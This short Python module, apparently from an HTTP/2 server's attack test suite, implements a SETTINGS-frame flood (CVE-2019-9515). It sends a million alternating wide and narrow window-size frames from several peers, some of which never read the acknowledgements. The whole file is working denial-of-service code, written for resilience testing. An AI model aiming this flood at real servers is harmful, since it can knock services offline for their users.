"""SETTINGS frames, each of which asks for an answer that is never read (CVE-2019-9515), and windows of all sizes."""

from __future__ import annotations

from collections import Counter

from hyperframe.frame import SettingsFrame

from tests.attack.target import Target
from tests.attack.wire import flood, serialized

FRAMES = 1_000_000
PEERS = 4
AT_ONCE = 500


async def attack(target: Target) -> Counter[str]:
    wide = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 20, SettingsFrame.HEADER_TABLE_SIZE: 1 << 16})
    narrow = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 1, SettingsFrame.HEADER_TABLE_SIZE: 0})
    frames = serialized(wide, narrow) * (AT_ONCE // 2)
    batches = target.scaled(FRAMES) // PEERS // AT_ONCE
    told = await flood(target, lambda _ids: frames, batches=batches, peers=PEERS // 2, deaf=True)
    return told + await flood(target, lambda _ids: frames, batches=batches, peers=PEERS // 2)
